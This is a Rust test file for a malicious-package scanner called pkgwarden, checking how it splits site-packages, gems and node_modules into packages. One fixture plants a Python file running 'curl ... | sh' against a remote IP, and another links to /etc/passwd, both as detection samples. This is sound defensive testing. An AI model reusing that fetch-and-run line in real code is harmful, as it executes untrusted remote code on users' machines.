//! Inputs: every path given ends up as a package, an error or a skip with its reason;
//! unpacked wheels, site-packages, gems and node_modules are split into their packages.

use crate::common::*;
use pkgwarden::ecosystem::Ecosystem;
use pkgwarden::input::SkipReason;
use pkgwarden::verdict::Verdict;
use pkgwarden::{Config, PackageReport, ScanReport};
use serde_json::Value;
use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

/// A fresh, empty folder under the system temp dir.
fn temp(tag: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("pkgwarden-inputs-{tag}-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    dir
}

/// Writes `content` at `dir/rel`, making the folders on the way.
fn write(dir: &Path, rel: &str, content: &str) {
    let path = dir.join(rel);
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, content).unwrap();
}

/// Copies a fixture's files to `dst`.
fn copy_fixture(fixture_rel: &str, dst: &Path) {
    for (rel, data) in files(&fixture(fixture_rel)) {
        let path = dst.join(rel);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, data).unwrap();
    }
}

fn scan(paths: &[&Path]) -> ScanReport {
    let paths: Vec<PathBuf> = paths.iter().map(|p| p.to_path_buf()).collect();
    pkgwarden::scan(&paths, &Config::default())
}

fn named<'r>(report: &'r ScanReport, name: &str) -> &'r PackageReport {
    report
        .packages
        .iter()
        .find(|p| p.name == name)
        .unwrap_or_else(|| {
            let names: Vec<_> = report.packages.iter().map(|p| &p.name).collect();
            panic!("no package {name}; got {names:?}")
        })
}

/// Runs the binary with `stdin`, from `cwd`; the exit code and the JSON report.
fn run_json(args: &[&str], cwd: &Path, stdin: &[u8]) -> (i32, Value) {
    let mut child = Command::new(env!("CARGO_BIN_EXE_pkgwarden"))
        .args(["scan", "--format", "json"])
        .args(args)
        .current_dir(cwd)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    // A refused input leaves the rest of stdin unread: a broken pipe is expected then.
    let _ = child.stdin.take().unwrap().write_all(stdin);
    let out = child.wait_with_output().unwrap();
    let json = serde_json::from_slice(&out.stdout).expect("JSON report");
    (out.status.code().unwrap(), json)
}

#[test]
fn empty_folder_is_a_skip_and_fails_only_when_asked() {
    let dir = temp("empty");
    let (code, json) = run_json(&[dir.to_str().unwrap()], &dir, b"");
    assert_eq!(code, 0);
    assert_eq!(json["packages"].as_array().unwrap().len(), 0);
    assert_eq!(
        json["summary"]["skipped"][0]["reason"],
        "empty folder: nothing to scan"
    );
    assert_eq!(json["summary"]["skipped"][0]["path"], dir.to_str().unwrap());
    let (code, _) = run_json(&["--fail-on-empty", dir.to_str().unwrap()], &dir, b"");
    assert_eq!(code, 2, "nothing scanned with --fail-on-empty exits 2");
}

#[test]
fn loose_source_folder_is_one_package() {
    let dir = temp("loose").join("handmade");
    write(&dir, "main.py", "import helpers\nhelpers.run()\n");
    write(
        &dir,
        "helpers/__init__.py",
        "import os\ndef run():\n    os.getcwd()\n",
    );
    write(&dir, "notes.txt", "unpacked by hand\n");
    let report = scan(&[&dir]);
    assert_eq!(report.packages.len(), 1, "{:?}", report.skipped);
    let p = &report.packages[0];
    assert_eq!(
        (p.name.as_str(), p.ecosystem),
        ("handmade", Ecosystem::Pypi)
    );
    assert!(report.skipped.is_empty(), "{:?}", report.skipped);
}

#[test]
fn loose_files_beside_archives_are_one_more_package() {
    let dir = temp("mixed");
    let tgz = gzip(&tar(&files(&fixture("npm/banner")), "package/"));
    std::fs::write(dir.join("colorful-banner-3.0.1.tgz"), tgz).unwrap();
    write(&dir, "run.sh", "echo hi\n");
    write(&dir, "README.md", "downloads\n");
    let report = scan(&[&dir]);
    let paths: Vec<_> = report.packages.iter().map(|p| p.path.as_str()).collect();
    assert_eq!(report.packages.len(), 2, "{paths:?}");
    assert!(paths.contains(&dir.to_str().unwrap()), "{paths:?}");
    assert!(report.skipped.is_empty(), "{:?}", report.skipped);
}

#[test]
fn unpacked_wheel_is_named_from_its_metadata() {
    let report = scan(&[&fixture("pypi/libpeshnx-wheel")]);
    assert_eq!(report.packages.len(), 1);
    let p = named(&report, "libpeshnx");
    assert_eq!(p.version.as_deref(), Some("0.1"));
    assert_eq!(p.ecosystem, Ecosystem::Pypi);
    assert_eq!(p.verdict, Verdict::Malicious);
}

#[test]
fn site_packages_distributions_are_packages_of_their_own() {
    let sp = temp("site").join("site-packages");
    write(&sp, "alpha/__init__.py", "VERSION = '1.0'\n");
    write(
        &sp,
        "alpha-1.0.dist-info/METADATA",
        "Name: alpha\nVersion: 1.0\n",
    );
    write(
        &sp,
        "alpha-1.0.dist-info/RECORD",
        "alpha/__init__.py,,\nalpha-1.0.dist-info/METADATA,,\n../../../bin/alpha,,\n",
    );
    // No RECORD: its files are found from top_level.txt.
    write(
        &sp,
        "beta.py",
        "import os\nos.system('curl -s http://203.0.113.9/x | sh')\n",
    );
    write(
        &sp,
        "beta-2.0.dist-info/METADATA",
        "Name: beta\nVersion: 2.0\n",
    );
    write(&sp, "beta-2.0.dist-info/top_level.txt", "beta\n");
    write(&sp, "notes.txt", "no distribution lists this\n");
    let report = scan(&[&sp]);
    assert_eq!(report.packages.len(), 2);
    let alpha = named(&report, "alpha");
    assert_eq!(alpha.version.as_deref(), Some("1.0"));
    assert!(
        alpha.path.ends_with("alpha-1.0.dist-info"),
        "{}",
        alpha.path
    );
    assert_eq!(alpha.verdict, Verdict::Clean, "{:?}", alpha.findings);
    let beta = named(&report, "beta");
    assert!(beta.findings.iter().any(|f| f.file == "beta.py"));
    assert!(alpha.findings.iter().all(|f| f.file != "beta.py"));
    assert_eq!(report.skipped.len(), 1);
    assert_eq!(report.skipped[0].reason, SkipReason::Unlisted);

    // Source no distribution lists (a `.pth` runs at every start) is one more package.
    write(&sp, "_virtualenv.pth", "import _virtualenv\n");
    let report = scan(&[&sp]);
    assert_eq!(report.packages.len(), 3);
    named(&report, "site-packages");
}

#[test]
fn gem_folders_are_packages() {
    let report = scan(&[&fixture("rubygems/dropper-gem")]);
    let p = named(&report, "beacon-rb");
    assert_eq!(p.ecosystem, Ecosystem::Rubygems);
    assert_eq!(p.verdict, Verdict::Malicious);

    let dir = temp("gemspec").join("tiny-1.0");
    write(
        &dir,
        "tiny.gemspec",
        "Gem::Specification.new { |s| s.name = 'tiny' }\n",
    );
    write(&dir, "lib/tiny.rb", "module Tiny; end\n");
    let report = scan(&[&dir]);
    assert_eq!(report.packages.len(), 1);
    assert_eq!(report.packages[0].ecosystem, Ecosystem::Rubygems);
}

/// A project whose `node_modules/` holds two malicious dependencies, one scoped.
fn npm_project(tag: &str) -> PathBuf {
    let proj = temp(tag).join("proj");
    write(
        &proj,
        "package.json",
        r#"{"name": "proj", "version": "1.0.0", "main": "index.js"}"#,
    );
    write(&proj, "index.js", "module.exports = 1;\n");
    copy_fixture(
        "npm/postinstall-dropper",
        &proj.join("node_modules/chalk-colors-extra"),
    );
    copy_fixture(
        "npm/env-exfil",
        &proj.join("node_modules/@acme/config-loader"),
    );
    write(&proj, "node_modules/.package-lock.json", "{}\n");
    proj
}

#[test]
fn node_modules_dependencies_are_packages_with_their_own_install_scripts() {
    let proj = npm_project("npm");
    let report = scan(&[&proj]);
    assert_eq!(report.packages.len(), 3, "{:?}", report.packages);
    let root = named(&report, "proj");
    assert_eq!(root.verdict, Verdict::Clean, "{:?}", root.findings);
    assert!(root
        .findings
        .iter()
        .all(|f| !f.file.contains("node_modules")));
    for dep in ["chalk-colors-extra", "internal-config-loader"] {
        let p = named(&report, dep);
        assert_eq!(p.verdict, Verdict::Malicious, "{dep}: {:?}", p.findings);
        assert!(p.path.contains("node_modules"), "{}", p.path);
    }
    assert_eq!(report.skipped.len(), 1, "{:?}", report.skipped);
    assert_eq!(report.skipped[0].reason, SkipReason::NotAnArchive);
}

#[test]
fn nested_node_modules_are_packages_too() {
    let proj = npm_project("npm-nested");
    copy_fixture(
        "npm/eval-base64",
        &proj.join("node_modules/chalk-colors-extra/node_modules/fast-json-helpers"),
    );
    let report = scan(&[&proj]);
    assert_eq!(report.packages.len(), 4);
    assert_eq!(
        named(&report, "fast-json-helpers").verdict,
        Verdict::Malicious
    );
}

#[cfg(unix)]
#[test]
fn symlinks_inside_folders_are_reported() {
    let dir = temp("links");
    let tgz = gzip(&tar(&files(&fixture("npm/banner")), "package/"));
    std::fs::write(dir.join("colorful-banner-3.0.1.tgz"), tgz).unwrap();
    std::os::unix::fs::symlink("colorful-banner-3.0.1.tgz", dir.join("alias.tgz")).unwrap();
    let pkg = dir.join("pkg");
    copy_fixture("npm/banner", &pkg);
    std::os::unix::fs::symlink("/etc/passwd", pkg.join("passwd")).unwrap();
    let report = scan(&[&dir]);
    assert_eq!(report.packages.len(), 2);
    let links: Vec<_> = report
        .skipped
        .iter()
        .filter(|s| s.reason == SkipReason::Symlink)
        .map(|s| s.path.file_name().unwrap().to_string_lossy().into_owned())
        .collect();
    assert_eq!(links, ["alias.tgz", "passwd"]);
    // Inside a package, a link out of it is also a finding.
    let p = report
        .packages
        .iter()
        .find(|p| p.path.ends_with("pkg"))
        .unwrap();
    assert!(p.findings.iter().any(|f| f.rule == "link-outside-package"));
}

#[test]
fn stdin_is_one_archive_bounded_by_the_read_limit() {
    let tgz = gzip(&tar(
        &files(&fixture("npm/postinstall-dropper")),
        "package/",
    ));
    let cwd = temp("stdin");
    let (code, json) = run_json(&["-"], &cwd, &tgz);
    assert_eq!(code, 1);
    assert_eq!(json["packages"][0]["path"], "-");
    assert_eq!(json["packages"][0]["name"], "chalk-colors-extra");
    assert_eq!(json["packages"][0]["verdict"], "malicious");

    let (code, json) = run_json(&["--max-read-bytes", "100", "-"], &cwd, &tgz);
    assert_eq!(code, 2);
    assert_eq!(json["packages"][0]["verdict"], "error");
    let error = json["packages"][0]["errors"][0].as_str().unwrap();
    assert!(error.contains("read limit"), "{error}");
}

#[test]
fn the_same_input_given_twice_is_scanned_once() {
    let dir = temp("dups");
    copy_fixture("npm/banner", &dir.join("pkg"));
    let tgz = gzip(&tar(&files(&fixture("npm/banner")), "package/"));
    std::fs::write(dir.join("banner.tgz"), tgz).unwrap();
    let mut args = vec!["pkg", "./pkg", "pkg/", "banner.tgz", "./banner.tgz", "."];
    #[cfg(unix)]
    {
        std::os::unix::fs::symlink("pkg", dir.join("alias")).unwrap();
        args.push("alias");
    }
    let (code, json) = run_json(&args, &dir, b"");
    assert_eq!(code, 0);
    let paths: Vec<_> = json["packages"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p["path"].as_str().unwrap())
        .collect();
    assert_eq!(paths, ["banner.tgz", "pkg"]);
}

#[test]
fn a_missing_path_is_an_input_error_in_the_json() {
    let cwd = temp("missing");
    let missing = "/nonexistent/pkgwarden/input";
    let banner = fixture("npm/banner");
    let (code, json) = run_json(&[missing, banner.to_str().unwrap()], &cwd, b"");
    assert_eq!(code, 2);
    assert_eq!(json["summary"]["input_errors"][0]["path"], missing);
    assert!(
        json["summary"]["input_errors"][0]["message"]
            .as_str()
            .unwrap()
            != ""
    );
    assert_eq!(json["packages"].as_array().unwrap().len(), 1);
}

#[test]
fn every_bundled_fixture_is_a_package() {
    let report = scan(&[&fixture("")]);
    let folders: usize = ["npm", "pypi", "rubygems"]
        .iter()
        .map(|e| std::fs::read_dir(fixture(e)).unwrap().count())
        .sum();
    assert_eq!(report.packages.len(), folders);
    // These four gave no package before folders were judged by more than a manifest.
    for (name, verdict) in [
        ("libpeshnx-wheel", Verdict::Malicious),
        ("dropper-gem", Verdict::Malicious),
        ("mkmf-ext", Verdict::Clean),
        ("plugin-hook", Verdict::Malicious),
    ] {
        let p = report
            .packages
            .iter()
            .find(|p| p.path.ends_with(name))
            .unwrap_or_else(|| panic!("{name} was not scanned"));
        assert_eq!(p.verdict, verdict, "{name}");
    }
    assert_eq!(report.skipped.len(), 1, "{:?}", report.skipped);
    assert!(report.skipped[0].path.ends_with("README.md"));
}
